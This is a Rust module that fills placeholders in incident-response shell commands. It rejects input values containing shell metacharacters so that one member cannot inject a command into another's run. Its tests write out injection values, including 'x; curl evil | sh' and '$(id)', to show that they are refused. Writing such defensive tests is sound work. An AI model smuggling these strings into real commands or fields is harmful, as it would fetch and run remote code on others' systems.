//! Filling a command's placeholders before it may run.
//!
//! `{{name}}` takes the incident's input `name`, or a value typed for it;
//! the literal texts a step lists in `placeholders` (`<secret-name>`,
//! `my-app`) take a typed value. A command with anything left unfilled
//! never runs.

use std::collections::BTreeMap;

/// What is still to be filled, each with why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Missing(pub Vec<(String, String)>);

impl std::fmt::Display for Missing {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let parts: Vec<String> = self
            .0
            .iter()
            .map(|(name, why)| format!("{name} ({why})"))
            .collect();
        write!(f, "unfilled placeholder(s): {}", parts.join(", "))
    }
}

/// An input's value goes into the command unquoted only when a shell reads
/// it as the plain word it looks like: an input may have been set by
/// another member, and must not smuggle a command into this account's run.
fn plain_word(value: &str) -> bool {
    !value.is_empty()
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._:/@+=,-".contains(&b))
}

/// `command` with its placeholders filled from `typed` (what the responder
/// typed for this run, trusted as theirs) and `inputs` (the incident's).
pub fn fill(
    command: &str,
    literals: &[String],
    inputs: &BTreeMap<String, String>,
    typed: &BTreeMap<String, String>,
) -> Result<String, Missing> {
    let mut missing: Vec<(String, String)> = Vec::new();
    let mut out = String::with_capacity(command.len());
    let mut rest = command;
    while let Some(open) = rest.find("{{") {
        out.push_str(&rest[..open]);
        let after = &rest[open + 2..];
        let Some(close) = after.find("}}") else {
            out.push_str(&rest[open..]);
            rest = "";
            break;
        };
        let name = after[..close].trim();
        let value = match (typed.get(name), inputs.get(name)) {
            (Some(v), _) => Some(v.clone()),
            (None, Some(v)) if plain_word(v) => Some(v.clone()),
            (None, Some(_)) => {
                push_once(
                    &mut missing,
                    name,
                    "the input's value has characters a shell would act on; type it",
                );
                None
            }
            (None, None) => {
                push_once(&mut missing, name, "no input gives it; type its value");
                None
            }
        };
        match value {
            Some(v) => out.push_str(&v),
            None => out.push_str(&rest[open..open + 2 + close + 2]),
        }
        rest = &after[close + 2..];
    }
    out.push_str(rest);
    for literal in literals.iter().filter(|l| !l.is_empty()) {
        if !out.contains(literal.as_str()) {
            continue;
        }
        match typed.get(literal) {
            Some(v) => out = out.replace(literal.as_str(), v),
            None => push_once(&mut missing, literal, "stands for a value; type it"),
        }
    }
    if missing.is_empty() {
        Ok(out)
    } else {
        Err(Missing(missing))
    }
}

fn push_once(missing: &mut Vec<(String, String)>, name: &str, why: &str) {
    if !missing.iter().any(|(n, _)| n == name) {
        missing.push((name.to_string(), why.to_string()));
    }
}

/// Every placeholder `command` holds, in order, once each: `{{name}}`
/// names and the step's literals that occur.
pub fn placeholders(command: &str, literals: &[String]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut rest = command;
    while let Some(open) = rest.find("{{") {
        let after = &rest[open + 2..];
        let Some(close) = after.find("}}") else { break };
        let name = after[..close].trim().to_string();
        if !out.contains(&name) {
            out.push(name);
        }
        rest = &after[close + 2..];
    }
    for l in literals {
        if !l.is_empty() && command.contains(l.as_str()) && !out.contains(l) {
            out.push(l.clone());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn map(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn inputs_and_typed_values_fill_and_nothing_is_left_behind() {
        let literals = vec!["<secret-name>".to_string(), "my-app".to_string()];
        let cmd = "vault kv put secret/{{leaked}} <secret-name>=x && systemctl restart my-app";
        let inputs = map(&[("leaked", "github-token")]);
        let typed = map(&[("<secret-name>", "GH_TOKEN"), ("my-app", "nanoclaw")]);
        assert_eq!(
            fill(cmd, &literals, &inputs, &typed).unwrap(),
            "vault kv put secret/github-token GH_TOKEN=x && systemctl restart nanoclaw"
        );
        // A typed value wins over the input's.
        let typed2 = map(&[("leaked", "other"), ("<secret-name>", "A"), ("my-app", "b")]);
        assert!(
            fill(cmd, &literals, &inputs, &typed2)
                .unwrap()
                .contains("secret/other")
        );
        assert_eq!(
            placeholders(cmd, &literals),
            vec!["leaked", "<secret-name>", "my-app"]
        );
    }

    #[test]
    fn anything_unfilled_refuses_the_command_and_says_what() {
        let literals = vec!["WHERE ...".to_string()];
        let cmd = "psql -c 'DELETE FROM users WHERE ...' {{db}}";
        let err = fill(cmd, &literals, &BTreeMap::new(), &BTreeMap::new()).unwrap_err();
        let names: Vec<&str> = err.0.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, ["db", "WHERE ..."]);
        assert!(err.to_string().starts_with("unfilled placeholder(s): db ("));
    }

    #[test]
    fn an_input_set_by_someone_else_cannot_inject_a_command() {
        let inputs = map(&[("leaked", "x; curl evil | sh"), ("ok", "github-token")]);
        let err = fill("echo {{leaked}} {{ok}}", &[], &inputs, &BTreeMap::new()).unwrap_err();
        assert_eq!(err.0.len(), 1);
        assert_eq!(err.0[0].0, "leaked");
        assert!(err.0[0].1.contains("type it"));
        for bad in ["$(id)", "`id`", "a b", "a\nb", "x&y", ""] {
            assert!(!plain_word(bad), "{bad:?}");
        }
        for good in [
            "github-token",
            "a.b",
            "s3://bucket/key",
            "user@host:22",
            "k=v,w",
        ] {
            assert!(plain_word(good), "{good:?}");
        }
    }

    #[test]
    fn braces_that_are_no_placeholder_stay_as_written() {
        assert_eq!(
            fill("echo '{{' and }}", &[], &BTreeMap::new(), &BTreeMap::new()),
            Err(Missing(vec![(
                "' and".to_string(),
                "no input gives it; type its value".to_string()
            )]))
        );
        assert_eq!(
            fill("awk '{print $1}'", &[], &BTreeMap::new(), &BTreeMap::new()).unwrap(),
            "awk '{print $1}'"
        );
        assert_eq!(
            fill("echo {{ unclosed", &[], &BTreeMap::new(), &BTreeMap::new()).unwrap(),
            "echo {{ unclosed"
        );
    }
}
